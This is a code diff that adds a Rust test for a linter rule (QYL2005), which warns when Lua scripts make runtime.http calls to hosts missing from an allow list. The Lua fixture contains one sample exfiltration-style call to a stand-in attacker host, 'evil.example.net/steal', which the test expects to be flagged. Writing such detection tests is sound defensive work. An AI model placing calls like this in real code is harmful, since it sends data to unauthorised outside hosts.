@@ -973,6 +973,68 @@ return {
     }
 
     #[test]
+    fn literal_urls_of_hosts_not_allowed_are_qyl2005() {
+        let src = r#"local HOOK = "https://hooks.slack.com/services/T/B/x"
+local BASE = "https://api.example.com"
+return {
+  qyl.fn { name = "a", trigger = { on = "error" }, handler = function(g, runtime)
+    runtime.http.post(HOOK, { text = "x" })
+    runtime.http.get("https://evil.example.net/steal?x=1")
+    runtime.http.get "http://127.0.0.1:9999/ok"
+    rt.http.post("https://pd.example.org/" .. g.group_id, {})
+    runtime.http.post(BASE .. "/v1", {})
+    runtime.http.post(runtime.secret("hook"), {})
+    local doc = "https://docs.example.com/not-a-call"
+  end },
+}
+"#;
+        let files = vec![(PathBuf::from("s/urls.lua"), src.to_string())];
+        let allow = AllowList::parse(&["hooks.slack.com".into(), "127.0.0.1:9999".into()]).unwrap();
+        let out: Vec<String> = check_sources_with(&files, &allow)
+            .diagnostics
+            .iter()
+            .map(|d| d.to_string())
+            .collect();
+        let w = with_code(&out, "QYL2005");
+        assert_eq!(w.len(), 2, "{out:#?}");
+        assert_eq!(
+            w[0],
+            "s/urls.lua:6:22: warning[QYL2005]: runtime.http call to https://evil.example.net: host evil.example.net is not in [functions] http_allow of qyl.toml (allowed: hooks.slack.com, 127.0.0.1:9999); the call will fail"
+        );
+        assert!(
+            w[1].starts_with(
+                "s/urls.lua:8:18: warning[QYL2005]: runtime.http call to https://pd.example.org: "
+            ),
+            "{}",
+            w[1]
+        );
+        // With nothing allowed, the local's URL and the loopback one count too.
+        let out: Vec<String> = check_sources(&files)
+            .diagnostics
+            .iter()
+            .map(|d| d.to_string())
+            .collect();
+        let w = with_code(&out, "QYL2005");
+        assert_eq!(w.len(), 4, "{out:#?}");
+        assert!(
+            w[0].starts_with(
+                "s/urls.lua:1:14: warning[QYL2005]: runtime.http call to https://hooks.slack.com: "
+            ),
+            "{}",
+            w[0]
+        );
+        // A suppression on the definition covers its calls.
+        let quiet = format!("--!qyl-suppress QYL2005: posted through a proxy\n{src}");
+        let files = vec![(PathBuf::from("s/urls.lua"), quiet)];
+        let out: Vec<String> = check_sources(&files)
+            .diagnostics
+            .iter()
+            .map(|d| d.to_string())
+            .collect();
+        assert!(with_code(&out, "QYL2005").is_empty(), "{out:#?}");
+    }
+
+    #[test]
     fn editor_temp_files_are_not_scripts() {
         for name in ["a.lua", "alert-high-latency.lua"] {
             assert!(is_script_file(Path::new(name)), "{name}");
